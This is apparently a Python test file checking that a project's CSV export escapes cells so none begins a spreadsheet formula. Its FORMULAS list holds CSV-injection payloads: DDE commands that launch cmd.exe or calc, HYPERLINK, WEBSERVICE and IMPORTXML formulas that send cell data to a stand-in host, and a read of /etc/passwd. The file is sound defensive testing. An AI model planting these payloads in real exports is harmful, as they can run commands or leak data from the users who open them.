"""R30: whatever stands in a text, no cell of the CSV begins a formula, however the file is cut into cells."""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from decimal import Decimal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from or_magic.features.receipts import Receipt
from or_magic.features.report_files import csv_text
from or_magic.features.spreadsheet import csv_text as table
from or_magic.features.spreadsheet import escape, unescape

# What programs were made to do by opening a file: commands, addresses, lookups, and their disguises.
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "=HYPERLINK(\"https://sink.invalid?leak=\"&A1,\"click\")", "=2+5+cmd|' /C calc'!A0",
    "=WEBSERVICE(\"https://sink.invalid/\"&A1)", "=IMPORTXML(CONCAT(\"https://sink.invalid?v=\",A1),\"//a\")",
    "=IMPORTDATA(\"https://sink.invalid\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''", "='file:///etc/passwd'#$passwd.A1", "=A1", "-2+3",
    "+49 30 1234", "@mention", "-", "=", "==1", "=-1", "--1", "=\n1", "=\t1",
    "\t=1+1", "\r=1+1", "\n=1+1", "\t", "\r", "\tx", "\rx", " =1+1", "   =1+1", "\u00a0=1+1", "\u3000=1+1", "\ufeff=1+1",
    "\u200b=1+1", "\u200e=1+1", "\u2060=1+1", "\u00ad=1+1", "\x00=1+1", "\x01=1+1", "\x0b=1+1", "\x0c=1+1", "\x1f=1+1",
    "\"=1+1", "\"\"=1+1", "'=1+1", "''=1+1", "\" =1+1", "`=1+1", "\"\t=1+1", "' \"=1+1",
    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", " \uff1d1+1", "\"\uff1d1+1", "\u22121+1", "\ufe661+1",
    "x;=1+1", "x; =1+1", "x;\"=1+1", "x\n=1+1", "x\r\n=1+1", "x\t=1+1", "x\";\"=1+1", "x\n\n=1+1", "x;y;=1+1;z",
    "x\u2028=1+1", "x\x85=1+1", "x\x0b=1+1", "x\x1c=1+1", ";=1+1", ";;=1+1", "=x;=y;=z", "x;\t=1", "\";=1+1", "x;\uff1d1",
)  # fmt: skip
HARMLESS = (
    "", "acme/one", "openai/gpt-5-mini-2025-08-07", "a-b", "a=b", "x@y.example", "1+1", "local:llama", "a; b", "a,b",
    'say "hi"', "naïve – résumé", "日本語", "日;本", "😀", "a\nb", "it's", "'quoted'", "“=”", "(=)", "$1", "1e5", "~", "%or", "|",
)  # fmt: skip


def begins_a_formula(cell: str) -> bool:
    """Whether any program may run it: as strict as the strictest of them, and written without a look at our own."""
    if cell[:1] in ("\t", "\r"):
        return True
    for sign in cell:
        if unicodedata.normalize("NFKC", sign) in ("=", "+", "-", "@", "\u2212"):
            return True
        if not (sign.isspace() or sign in '"`' or unicodedata.category(sign) in ("Cc", "Cf", "Zs", "Zl", "Zp")):
            return False
    return False


def cut(text: str, separators: str) -> list[str]:
    """Cut without any regard to quotes, as a program does that expects another separator."""
    return re.split(f"[{re.escape(separators)}]", text)


def one(text: str, *, raw: bool = False) -> str:
    return table(["a", "b"], [["x", text]], raw=raw)


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_no_known_formula_is_one(text: str) -> None:
    """OWASP's list and its disguises; and what is read back is the text, with apostrophes in front."""
    written = one(text)
    (_, (_, found)) = csv.reader(io.StringIO(written, newline=""))
    assert not begins_a_formula(found)
    assert "'" in found
    assert text == unescape(found)
    for separators in (";", "\t", ";\t", ";\t\n\r"):
        for piece in cut(found, separators):
            assert not begins_a_formula(piece) or not piece.strip('"\t\r '), (separators, piece)


@pytest.mark.parametrize("text", HARMLESS, ids=ascii)
def test_ordinary_text_is_left_as_it_is(text: str) -> None:
    """Model ids, tags and names are not full of apostrophes for nothing."""
    (_, (_, found)) = csv.reader(io.StringIO(one(text), newline=""))
    assert text == found == escape(text)


def test_the_tricks_are_tricks() -> None:
    """Raw, each of them is a formula somewhere: what is proven above is not that nothing was tried."""
    for text in FORMULAS:
        (_, (_, found)) = csv.reader(io.StringIO(one(text, raw=True), newline=""))
        assert text == found
        if text.startswith("'"):  # an apostrophe of their own; it must not be taken for ours when the file is read
            continue
        assert any(begins_a_formula(piece) for piece in [found, *cut(found, ";\t\n\r\v\x1c\x85\u2028")]), ascii(text)


_SIGNS = st.lists(
    st.sampled_from(
        [*"=+-@\t\r\n;,\"' `x1|\uff1d\uff0b\uff0d\uff20\u2212", "\u200b", "\ufeff", "\x00", "\x85", "\u2028"]
    ),
    max_size=14,
).map("".join)


@settings(max_examples=1500, deadline=None)
@given(_SIGNS | st.text(max_size=20))
def test_any_text_comes_back_and_begins_no_formula(text: str) -> None:
    """Nothing is lost: the escape is undone exactly; without separators inside it is at most one sign in front."""
    (_, (first, found)) = csv.reader(io.StringIO(one(text), newline=""))
    assert "x" == first
    assert text == unescape(found) == unescape(escape(text))
    assert not begins_a_formula(found)
    if not re.search("[;\t\r\n\v\f\x1c-\x1e\x85\u2028\u2029]", text):
        assert found in (text, f"'{text}")
    for piece in re.split("[;\n\v\f\x1c-\x1e\x85\u2028\u2029]", found):
        assert not begins_a_formula(piece), piece


@settings(max_examples=300, deadline=None)
@given(_SIGNS, _SIGNS, _SIGNS, _SIGNS)
def test_the_texts_of_an_answer_come_back(tag: str, model: str, notebook: str, cell_id: str) -> None:
    """In the file that ``--csv`` writes: tag, model, notebook and cell id are other people's words."""
    answer = Receipt(tag=tag, model=model, notebook=notebook, cell_id=cell_id, prompt_tokens=5, cost_pico=10**9)
    (found,) = csv.DictReader(io.StringIO(csv_text([answer]), newline=""))
    told = {"tag": tag, "model": model, "notebook": notebook, "cell_id": cell_id}
    assert told == {name: unescape(found[name]) for name in told}
    assert not [name for name, text in found.items() if begins_a_formula(text)]
    assert ("5", "0.001") == (found["prompt_tokens"], found["cost_usd"])


def test_numbers_stay_numbers() -> None:
    """A spreadsheet adds them up; below zero there is a sign, and it is no formula."""
    written = table(["n"], [[1], [-1], [Decimal("-0.00000010")], [Decimal(100)], [2.5], [True], [None]])
    assert ["n", "1", "-1", "-0.0000001", "100", "2.5", "true", '""'] == written.split("\r\n")[:-1]


def test_names_of_columns_are_escaped_too() -> None:
    """A frame of somebody's own may have any."""
    assert "'=x" == table(["=x"], []).strip()
